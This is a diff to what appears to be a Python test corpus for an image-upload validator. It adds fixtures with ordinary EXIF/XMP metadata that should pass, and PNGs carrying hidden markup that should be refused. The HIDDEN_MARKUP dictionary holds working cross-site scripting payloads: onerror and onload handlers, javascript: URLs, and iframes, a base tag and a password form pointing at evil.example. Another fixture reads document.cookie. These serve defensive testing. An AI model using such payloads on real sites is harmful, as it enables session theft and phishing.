@@ -12,10 +12,10 @@ import wave
 from collections.abc import Callable
 from dataclasses import dataclass
 from fractions import Fraction
-from functools import cache
+from functools import cache, partial
 
 import av
-from PIL import Image, ImageCms, ImageDraw
+from PIL import Image, ImageCms, ImageDraw, PngImagePlugin
 
 # The upright portrait carries this colour in its top-left corner; it is stored
 # rotated with EXIF orientation 6, so only a reader that applies the tag finds it there.
@@ -81,6 +81,81 @@ def jpeg_with_trailing_script():
 @cache
 def jpeg_with_script_in_comment():
     return _save(_gradient((64, 48)), "JPEG", comment=b"<script>alert(document.cookie)</script>")
+
+
+# What Lightroom writes into a photo: namespaced tags (<rdf:li ...>), URLs, attributes
+# such as stEvt:action="saved", all of which the hidden-markup check must let through.
+ORDINARY_XMP = """<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>
+<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 7.0-c000 1.000000, 0000/00/00-00:00:00">
+ <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
+  <rdf:Description rdf:about=""
+    xmlns:xmp="http://ns.adobe.com/xap/1.0/"
+    xmlns:dc="http://purl.org/dc/elements/1.1/"
+    xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/"
+    xmlns:stEvt="http://ns.adobe.com/xap/1.0/sType/ResourceEvent#"
+   xmp:CreatorTool="Adobe Photoshop Lightroom Classic 13.0 (Windows)"
+   xmpMM:DocumentID="xmp.did:5b1f0c1e-57c4-4e4e-9d7e-0d6b8d6a1c2f">
+   <xmpMM:History>
+    <rdf:Seq>
+     <rdf:li stEvt:action="saved" stEvt:softwareAgent="Adobe Photoshop Lightroom" stEvt:when="2026-05-01T10:00:00"/>
+    </rdf:Seq>
+   </xmpMM:History>
+   <dc:title><rdf:Alt><rdf:li xml:lang="x-default">Heel pull on the box</rdf:li></rdf:Alt></dc:title>
+   <dc:rights><rdf:Alt><rdf:li xml:lang="x-default">© Jane Doe <jane@example.com></rdf:li></rdf:Alt></dc:rights>
+  </rdf:Description>
+ </rdf:RDF>
+</x:xmpmeta>
+<?xpacket end="w"?>"""
+ORDINARY_NOTE = "Heel pull, 10 reps <each side> then change feet; cadence < 180 > 170. See https://example.com/drills"
+
+
+@cache
+def jpeg_with_ordinary_metadata():
+    exif = Image.Exif()
+    exif[0x010F], exif[0x0110] = "Canon", "EOS R6"  # make, model
+    exif[0x0131] = "Adobe Photoshop Lightroom Classic 13.0 (Windows)"  # software
+    exif[0x010E] = ORDINARY_NOTE  # image description
+    exif[0x8298] = "© 2026 Jane Doe"  # copyright
+    return _save(
+        _gradient((64, 48)), "JPEG", quality=90, exif=exif.tobytes(), xmp=ORDINARY_XMP.encode(),
+        comment=ORDINARY_NOTE.encode(),
+    )
+
+
+@cache
+def png_with_ordinary_text_chunks():
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Software", "GIMP 2.10.36")
+    info.add_text("Comment", ORDINARY_NOTE)
+    info.add_itxt("XML:com.adobe.xmp", ORDINARY_XMP)
+    return _save(_gradient((64, 48)), "PNG", pnginfo=info)
+
+
+# Each would run script, load something or navigate if a browser rendered the file as a page.
+HIDDEN_MARKUP = {
+    "img onerror": "<img src=x onerror=alert(document.domain)>",
+    "img with a slash and capitals": "<IMG/SRC=x ONERROR=alert(1)>",
+    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+    "javascript link": '<a href="javascript:alert(1)">open</a>',
+    "javascript url split by a tab": '<a href="java\tscript:alert(1)">open</a>',
+    "style": "<style>body{background:url(https://evil.example/x)}</style>",
+    "form": '<form action="https://evil.example/login"><input name=password></form>',
+    "math": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "iframe": "<iframe src=https://evil.example/>",
+    "object": "<object data=https://evil.example/x.swf>",
+    "embed": "<embed src=https://evil.example/x.swf>",
+    "svg onload": "<svg/onload=alert(1)>",
+    "html": "<html><p>Hello</p></html>",
+    "body onload": "<body onload=alert(1)>",
+    "base": "<base href=https://evil.example/>",
+    "any element with an event handler": '<div onmouseover="alert(1)">hover</div>',
+}
+
+
+def png_with_text(text):
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Comment", text)
+    return _save(_gradient((64, 48)), "PNG", pnginfo=info)
 
 
 @cache
@@ -458,6 +533,10 @@ CORPUS = [
     ),
     accepted("jpeg with gps", "holiday.jpg", jpeg_with_gps, "image", "image/jpeg", "jpg", size=(640, 480)),
     accepted("cmyk jpeg", "print.jpg", cmyk_jpeg, "image", "image/jpeg", "jpg"),
+    accepted(
+        "jpeg with exif, xmp and a comment", "lightroom.jpg", jpeg_with_ordinary_metadata, "image", "image/jpeg", "jpg"
+    ),
+    accepted("png with text and xmp chunks", "gimp.png", png_with_ordinary_text_chunks, "image", "image/png", "png"),
     accepted("16-bit png", "scan.png", png_16bit, "image", "image/png", "png"),
     accepted("palette png with transparency", "logo.png", palette_png_with_transparency, "image", "image/png", "png"),
     accepted("png with non-srgb icc profile", "wide.png", png_with_icc_profile, "image", "image/png", "png"),
@@ -494,6 +573,10 @@ CORPUS = [
     refused("jpeg with script in a comment", "photo.jpg", jpeg_with_script_in_comment, "HTML or script hidden"),
     refused("gif header followed by html", "hop.gif", gif_polyglot_html, "HTML or script hidden"),
     refused("svg with script", "drawing.svg", svg_with_script, "SVG can carry scripts"),
+    *(
+        refused(f"png with {name} in a text chunk", "photo.png", partial(png_with_text, text), "HTML or script hidden")
+        for name, text in HIDDEN_MARKUP.items()
+    ),
     refused("html named .jpg", "photo.jpg", html_page, "HTML"),
     refused("pdf", "article.pdf", pdf, "PDF document"),
     refused("windows exe", "video.mp4", windows_exe, "program"),
